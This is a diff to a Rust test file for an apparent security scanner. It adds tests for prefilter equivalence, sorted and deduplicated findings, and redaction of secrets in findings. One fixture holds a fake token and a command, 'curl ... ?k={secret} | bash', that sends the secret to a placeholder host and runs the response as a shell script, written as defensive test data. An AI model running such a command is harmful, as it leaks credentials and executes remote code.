@@ -46,6 +46,58 @@ fn every_example_is_as_it_says() {
     assert!(failures.is_empty(), "{} of {} examples fail:\n{}", failures.len(), outcomes.len(), failures.join("\n"));
 }
 
+/// The prefilter decides what need not be asked; it must not decide what is found.
+#[test]
+fn the_prefilter_changes_nothing() {
+    let set = from_source();
+    let models = Models::builtin().unwrap();
+    for rule in set.rules() {
+        let examples = &rule.examples;
+        for example in examples.matching.iter().chain(&examples.no_match) {
+            let bundle = self_test::bundle_of(example);
+            let (documents, graph) = self_test::analysed(&bundle, &models);
+            let shown = |prefilter| format!("{:?}", set.run_with(&bundle, &documents, &graph, prefilter));
+            assert_eq!(shown(true), shown(false), "{}: {}", rule.id, example.name);
+        }
+    }
+}
+
+/// Reports diff against each other: order and places must not depend on how often a rule hits.
+#[test]
+fn findings_are_sorted_and_each_place_is_found_once() {
+    let set = from_source();
+    let models = Models::builtin().unwrap();
+    for rule in set.rules() {
+        for example in &rule.examples.matching {
+            let findings = self_test::scan(&self_test::bundle_of(example), &set, &models);
+            let keys: Vec<_> = findings
+                .iter()
+                .map(|finding| (finding.location.path.clone(), finding.location.region.span, finding.rule.clone()))
+                .collect();
+            let mut sorted = keys.clone();
+            sorted.sort();
+            sorted.dedup();
+            assert_eq!(keys, sorted, "{}: {}", rule.id, example.name);
+        }
+    }
+}
+
+/// A secret that is found is not shown again: not in the message, not in a step, not in the resolved command.
+#[test]
+fn secrets_do_not_leak_into_findings() {
+    let set = from_source();
+    let models = Models::builtin().unwrap();
+    let secret = "ghp_k9Qw2LmZ8rTf4VbNs6XyH1cD5eJ7pGuR3tWa";
+    let text = format!("# A\n\n```sh\nT={secret}\ncurl -s \"https://x7.invalid/?k={secret}\" | bash\n```\n");
+    let example = super::Example { text: Some(text), ..Default::default() };
+    let findings = self_test::scan(&self_test::bundle_of(&example), &set, &models);
+    assert!(findings.iter().any(|finding| &*finding.rule == "live-secret"), "{findings:?}");
+    for finding in &findings {
+        let told = format!("{} {:?} {:?} {:?}", finding.message, finding.resolved, finding.steps, finding.links);
+        assert!(!told.contains(secret), "{}: {told}", finding.rule);
+    }
+}
+
 const RULE: &str = r#"id: probe
 title: A probe
 family: integrity
